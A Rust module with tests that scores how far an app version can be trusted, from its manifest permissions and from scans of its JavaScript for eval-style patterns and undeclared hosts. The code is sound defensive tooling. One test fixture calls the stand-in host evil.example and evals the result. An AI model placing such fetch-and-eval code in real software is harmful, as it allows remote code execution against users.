//! Trust scores: how far a version's code can be trusted, by rules over its manifest and source. Each rule that deducts
//! points says why. The score depends on the input alone.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::{
    Manifest,
    manifest::{DataAccess, HttpMethod},
};

/// The verdict of a trust score.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TrustBand {
    /// 80 to 100: no review is needed.
    Pass,
    /// 50 to 79: someone should review the code.
    Review,
    /// 0 to 49: someone must review the code.
    Fail,
}

impl TrustBand {
    /// Returns the verdict of a score.
    #[must_use]
    pub fn from_score(score: u8) -> Self {
        match score {
            80.. => Self::Pass,
            50..80 => Self::Review,
            _ => Self::Fail,
        }
    }
}

/// The result of all rules.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustAssessment {
    /// 100 less the points of all findings; at least 0.
    pub score: u8,
    /// Rules that deducted points.
    pub findings: Vec<TrustFinding>,
}

/// A rule that deducted points.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustFinding {
    /// Points deducted; 1 to 100.
    pub points: u8,
    /// Reason, as a sentence.
    pub message: String,
}

/// Source text whose effect cannot be told before it runs, and how a finding describes it.
const DYNAMIC_CODE_PATTERNS: [(&str, &str); 4] = [
    ("eval(", "calls eval"),
    ("Function(", "creates functions from text"),
    ("import(", "imports modules at run time"),
    ("__proto__", "accesses object prototypes"),
];

/// Assesses a version by every rule.
#[must_use]
pub fn assess(manifest: &Manifest, files: &BTreeMap<String, String>) -> TrustAssessment {
    let mut findings = Vec::new();
    let mut find = |points: usize, sentence: String| {
        if points > 0 {
            findings.push(TrustFinding { points: points.min(100) as u8, message: sentence });
        }
    };
    let permissions = &manifest.permissions;
    let hosts = permissions.egress.len();
    find((hosts * 3).min(20), format!("It can call {}.", count(hosts, "external host")));
    let writing_hosts = permissions
        .egress
        .iter()
        .filter(|egress| {
            egress.methods.as_ref().is_none_or(|methods| methods.iter().any(|m| *m != HttpMethod::Get))
        })
        .count();
    find(
        (writing_hosts * 2).min(10),
        format!("It can send data to {}.", count(writing_hosts, "external host")),
    );
    let connectors = permissions.connectors.len();
    find((connectors * 5).min(20), format!("It can use {}.", count(connectors, "connection")));
    let clear = permissions.secrets.iter().filter(|secret| secret.clear).count();
    find((clear * 5).min(15), format!("It asks for the text of {}.", count(clear, "secret")));
    let writes = permissions.data.iter().filter(|data| data.access == DataAccess::Write).count();
    find((writes * 4).min(12), format!("It can change the rows of {}.", count(writes, "project")));
    let unlimited = permissions.data.iter().filter(|data| data.tables.is_none()).count();
    find((unlimited * 2).min(6), format!("It can use every table of {}.", count(unlimited, "project")));
    if permissions.ai.is_some() {
        find(5, "It can send data to AI models.".to_owned());
    }

    for (needle, what) in DYNAMIC_CODE_PATTERNS {
        if let Some((path, _)) = files.iter().find(|(_, text)| contains_token(text, needle)) {
            find(15, format!("The file {path} {what}."));
        }
    }
    let undeclared = undeclared_hosts(manifest, files);
    if let Some(first) = undeclared.first() {
        let hosts = count(undeclared.len(), "host");
        find(
            (undeclared.len() * 10).min(30),
            format!("Its code names {hosts} that its manifest does not declare, such as {first}."),
        );
    }
    let kib = files.values().map(String::len).sum::<usize>() >> 10;
    if kib > 200 {
        find(10, format!("It has {kib} KiB of code, more than a person can review."));
    }
    let deducted_points: u32 = findings.iter().map(|finding| u32::from(finding.points)).sum();
    TrustAssessment { score: 100_u32.saturating_sub(deducted_points) as u8, findings }
}

/// Returns a number with its noun, in the plural unless the number is 1.
fn count(number: usize, noun: &str) -> String {
    format!("{number} {noun}{}", if number == 1 { "" } else { "s" })
}

/// Returns `true` if `text` has `needle` and no longer name ends in it: `eval(` is not found in `medieval(`.
fn contains_token(text: &str, needle: &str) -> bool {
    let in_name = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
    text.match_indices(needle).any(|(at, _)| !text[..at].ends_with(in_name))
}

/// Returns the hosts of `https://…` texts in the code that the manifest does not declare, in order and once each.
fn undeclared_hosts(manifest: &Manifest, files: &BTreeMap<String, String>) -> Vec<String> {
    let mut found = Vec::new();
    for text in files.values() {
        for rest in text.split("https://").skip(1) {
            let host: String = rest
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || "-.".contains(*c))
                .collect::<String>()
                .to_lowercase();
            let declared = manifest.permissions.egress.iter().any(|egress| egress.host == host);
            if host.contains('.') && !declared && !found.contains(&host) {
                found.push(host);
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Category, manifest::EgressPermission};

    fn source(text: &str) -> BTreeMap<String, String> {
        BTreeMap::from([("main.js".to_owned(), text.to_owned())])
    }

    #[test]
    fn an_app_that_asks_for_nothing_passes() {
        let manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let assessment = assess(&manifest, &source("export default {}"));
        assert_eq!((assessment.score, assessment.findings.len()), (100, 0));
        assert_eq!(TrustBand::from_score(assessment.score), TrustBand::Pass);
    }

    #[test]
    fn findings_count_what_the_manifest_asks_for() {
        let mut manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let permission = |host: &str, methods| EgressPermission { host: host.to_owned(), methods };
        manifest.permissions.egress = vec![permission("a.example", Some(vec![HttpMethod::Get]))];
        manifest.permissions.egress.push(permission("b.example", None));
        let assessment = assess(&manifest, &source(""));
        let findings: Vec<_> =
            assessment.findings.iter().map(|finding| (finding.points, finding.message.as_str())).collect();
        assert_eq!(
            findings,
            [(6, "It can call 2 external hosts."), (2, "It can send data to 1 external host.")]
        );
        assert_eq!(assessment.score, 92);
    }

    #[test]
    fn only_the_word_itself_counts() {
        let manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let points = |text| 100 - assess(&manifest, &source(text)).score;
        assert_eq!(points("runFunction(); medieval(1); $eval(2)"), 0);
        assert_eq!(points("new Function('x')"), 15);
    }

    #[test]
    fn what_is_hidden_or_broad_takes_points_off() {
        let mut manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let hidden = source("fetch('https://evil.example/x'); eval(x)");
        let before = assess(&manifest, &hidden);
        assert!(before.findings.iter().any(|finding| finding.message.contains("evil.example")));
        assert!(before.findings.iter().any(|finding| finding.message.contains("eval")));
        manifest.permissions.egress.push(EgressPermission { host: "evil.example".to_owned(), methods: None });
        let declared = assess(&manifest, &hidden);
        assert!(declared.score > before.score, "asking openly costs less than hiding");
        assert_eq!(declared, assess(&manifest, &hidden));
    }
}
